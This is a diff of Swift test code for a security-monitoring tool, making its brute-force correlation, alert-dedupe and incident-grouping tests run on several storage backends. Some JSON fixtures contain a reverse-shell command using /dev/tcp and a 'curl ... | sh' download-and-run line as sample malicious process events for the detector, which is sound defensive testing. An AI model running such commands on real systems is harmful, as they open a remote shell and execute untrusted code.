@@ -17,55 +17,56 @@ func sshFailures(count: Int, interval: Int, from address: String = "203.0.113.5"
     }.joined(separator: "\n") + "\n"
 }
 
+/// On both stores (`TestBackend.available`).
 @Suite(.runsOn(.busy)) struct CorrelationPipelineTests {
-    func importSyslog(_ texts: [String]) throws -> (Store, [ImportSummary]) {
+    func importSyslog(_ texts: [String], on backend: TestBackend) throws -> (TestStore, [ImportSummary]) {
         let workspace = TemporaryDirectory()
-        let store = try Store(path: workspace.databasePath)
-        try store.setIntegration("syslog", enabled: true, actor: "test")
+        let store = try TestStore(backend, in: workspace)
         var summaries: [ImportSummary] = []
         for (index, text) in texts.enumerated() {
             // A new pipeline per file, as separate `vigil import` runs are.
             let path = try workspace.write("auth\(index).log", text)
-            summaries.append(try ImportPipeline(store: store, ruleSet: .builtin()).importFiles([path], format: .fixed(.syslog), integration: "syslog", actor: "test"))
+            summaries.append(try store.pipeline(ruleSet: .builtin()).importFiles([path], format: .fixed(.syslog), integration: "syslog", actor: "test"))
         }
         return (store, summaries)
     }
 
-    @Test func bruteForceRaisesExactlyOneCorrelationAlert() throws {
-        let (store, _) = try importSyslog([sshFailures(count: 30, interval: 5)])
-        let alerts = try store.alerts(AlertFilter())
+    @Test(arguments: TestBackend.available) func bruteForceRaisesExactlyOneCorrelationAlert(on backend: TestBackend) throws {
+        let (imported, _) = try importSyslog([sshFailures(count: 30, interval: 5)], on: backend)
+        let alerts = try imported.store.alerts(AlertFilter())
         #expect(alerts.map(\.title) == ["SSH brute force from one address"])
         #expect(alerts.first?.eventCount ?? 0 >= 10)
         #expect(alerts.first?.matchedFields.contains("\"SourceIp\":\"203.0.113.5\"") == true)
     }
 
-    @Test func theSameFailuresSpreadWiderThanFiveMinutesRaiseNone() throws {
+    @Test(arguments: TestBackend.available) func theSameFailuresSpreadWiderThanFiveMinutesRaiseNone(on backend: TestBackend) throws {
         // 10 failures 34 s apart span 306 s: no 5-minute window holds 10 of them.
-        let (store, _) = try importSyslog([sshFailures(count: 10, interval: 34)])
-        #expect(try store.alerts(AlertFilter()).isEmpty)
+        let (imported, _) = try importSyslog([sshFailures(count: 10, interval: 34)], on: backend)
+        #expect(try imported.store.alerts(AlertFilter()).isEmpty)
     }
 
-    @Test func aCorrelationSpansTwoImportedFiles() throws {
-        let (store, _) = try importSyslog([sshFailures(count: 6, interval: 5), sshFailures(count: 6, interval: 5, startSecond: 40)])
-        #expect(try store.alerts(AlertFilter()).map(\.title) == ["SSH brute force from one address"])
+    @Test(arguments: TestBackend.available) func aCorrelationSpansTwoImportedFiles(on backend: TestBackend) throws {
+        let (imported, _) = try importSyslog([sshFailures(count: 6, interval: 5), sshFailures(count: 6, interval: 5, startSecond: 40)], on: backend)
+        #expect(try imported.store.alerts(AlertFilter()).map(\.title) == ["SSH brute force from one address"])
     }
 
-    @Test func reimportingTheSameFailuresChangesNothing() throws {
+    @Test(arguments: TestBackend.available) func reimportingTheSameFailuresChangesNothing(on backend: TestBackend) throws {
         let text = sshFailures(count: 12, interval: 5)
-        let (store, summaries) = try importSyslog([text, text])
+        let (imported, summaries) = try importSyslog([text, text], on: backend)
         #expect(summaries[1].outcome.stored == 0)
         #expect(summaries[1].outcome.alertsRaised == 0)
-        #expect(try store.alerts(AlertFilter()).count == 1)
+        #expect(try imported.store.alerts(AlertFilter()).count == 1)
     }
 }
 
+/// On both stores (`TestBackend.available`), but for triage, which runs on SQLite only so far.
 @Suite(.runsOn(.busy)) struct IncidentAndDedupeTests {
-    func importJSON(_ lines: [String], policy: IncidentPolicy = IncidentPolicy(), dedupe: Duration = .seconds(3600)) throws -> Store {
+    func importJSON(_ lines: [String], policy: IncidentPolicy = IncidentPolicy(), dedupe: Duration = .seconds(3600),
+                    on backend: TestBackend) throws -> TestStore {
         let workspace = TemporaryDirectory()
-        let store = try Store(path: workspace.databasePath)
-        try store.setIntegration("json", enabled: true, actor: "test")
+        let store = try TestStore(backend, in: workspace)
         let path = try workspace.write("events.ndjson", lines.joined(separator: "\n"))
-        _ = try ImportPipeline(store: store, ruleSet: .builtin(), dedupeWindow: dedupe, incidentPolicy: policy)
+        _ = try store.pipeline(ruleSet: .builtin(), dedupeWindow: dedupe, incidentPolicy: policy)
             .importFiles([path], format: .fixed(.json), integration: "json", actor: "test")
         return store
     }
@@ -74,66 +75,67 @@ func sshFailures(count: Int, interval: Int, from address: String = "203.0.113.5"
         #"{"@timestamp":"\#(time)","hostname":"\#(host)","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"\#(signature)"\#(extra)}"#
     }
 
-    @Test func repeatsWithinTheDedupeWindowFoldAndOneAfterItOpensANewAlert() throws {
-        let store = try importJSON([
+    @Test(arguments: TestBackend.available) func repeatsWithinTheDedupeWindowFoldAndOneAfterItOpensANewAlert(on backend: TestBackend) throws {
+        let imported = try importJSON([
             antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:59:59Z"),
             antivirus("web-01", "2026-03-03T12:00:00Z"),
-        ])
-        let alerts = try store.alerts(AlertFilter(sort: .firstEvent))
+        ], on: backend)
+        let alerts = try imported.store.alerts(AlertFilter(sort: .firstEvent))
         #expect(alerts.map(\.eventCount).sorted() == [1, 2])
     }
 
-    @Test func sameMachineWithin24HoursIsOneIncident() throws {
-        let store = try importJSON([
+    @Test(arguments: TestBackend.available) func sameMachineWithin24HoursIsOneIncident(on backend: TestBackend) throws {
+        let imported = try importJSON([
             antivirus("web-01", "2026-03-03T10:00:00Z"),
             #"{"@timestamp":"2026-03-03T18:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1"}"#,
             antivirus("web-01", "2026-03-06T10:00:00Z", signature: "Other.Thing"),
-        ])
-        let incidents = try store.incidents()
+        ], on: backend)
+        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
         #expect(incidents.map(\.alertCount).sorted() == [1, 2])
         let grouped = try #require(incidents.first { $0.alertCount == 2 })
         #expect(grouped.reason.contains("same machine web-01 within 24h"))
         #expect(grouped.severity == .high)
     }
 
-    @Test func aSharedFileHashJoinsMachines() throws {
+    @Test(arguments: TestBackend.available) func aSharedFileHashJoinsMachines(on backend: TestBackend) throws {
         var policy = IncidentPolicy()
         policy.burstWindow = .seconds(1)
         let hash = #","sha256":"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999""#
-        let store = try importJSON([
+        let imported = try importJSON([
             antivirus("web-01", "2026-03-03T10:00:00Z", extra: hash),
             antivirus("db-01", "2026-03-03T15:00:00Z", signature: "Unix.Other", extra: hash),
-        ], policy: policy)
-        let incidents = try store.incidents()
+        ], policy: policy, on: backend)
+        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
         #expect(incidents.count == 1)
         #expect(incidents.first?.reason.contains("db-01 shares sha256 aaaabbbb") == true)
     }
 
-    @Test func aSharedRemoteAddressJoinsMachines() throws {
+    @Test(arguments: TestBackend.available) func aSharedRemoteAddressJoinsMachines(on backend: TestBackend) throws {
         var policy = IncidentPolicy()
         policy.burstWindow = .seconds(1)
-        let store = try importJSON([
+        let imported = try importJSON([
             #"{"@timestamp":"2026-03-03T10:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1","DestinationIp":"198.51.100.7"}"#,
             #"{"@timestamp":"2026-03-03T12:00:00Z","hostname":"db-01","logsource":{"category":"process_creation"},"CommandLine":"curl http://x | sh","DestinationIp":"198.51.100.7"}"#,
-        ], policy: policy)
-        #expect(try store.incidents().first?.reason.contains("shares ip 198.51.100.7") == true)
+        ], policy: policy, on: backend)
+        #expect(try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.reason.contains("shares ip 198.51.100.7") == true)
     }
 
-    @Test func theSameRuleInABurstJoinsMachines() throws {
-        let store = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("db-01", "2026-03-03T10:20:00Z")])
-        let incidents = try store.incidents()
+    @Test(arguments: TestBackend.available) func theSameRuleInABurstJoinsMachines(on backend: TestBackend) throws {
+        let imported = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("db-01", "2026-03-03T10:20:00Z")], on: backend)
+        let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
         #expect(incidents.count == 1)
         #expect(incidents.first?.reason.contains("fired on db-01 and web-01 within 1h") == true)
     }
 
     @Test func incidentStatusFollowsItsAlertsUntilSetByHand() throws {
-        let store = try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:00:01Z", signature: "Other")])
+        let store = try #require(try importJSON([antivirus("web-01", "2026-03-03T10:00:00Z"), antivirus("web-01", "2026-03-03T10:00:01Z", signature: "Other")],
+                                                on: .sqlite).sqlite)
         let ids = try store.alerts(AlertFilter()).map(\.id)
         try store.updateAlerts(ids: [ids[0]], AlertUpdate(status: "in_progress"), actor: "t")
-        #expect(try store.incidents().first?.status == "in_progress")
+        #expect(try store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.status == "in_progress")
         try store.updateAlerts(ids: ids, AlertUpdate(status: "resolved", classification: "true_positive", comment: "cleaned"), actor: "t")
-        #expect(try store.incidents().first?.status == "resolved")
-        let incident = try #require(try store.incidents().first)
+        #expect(try store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.status == "resolved")
+        let incident = try #require(try store.incidents(status: nil, minimumSeverity: nil, limit: 100).first)
         try store.updateIncident(id: incident.id, status: "in_progress", assignedTo: "carol", classification: nil, comment: nil, actor: "t")
         try store.updateAlerts(ids: ids, AlertUpdate(status: "new"), actor: "t")
         #expect(try store.incident(id: incident.id)?.status == "in_progress")
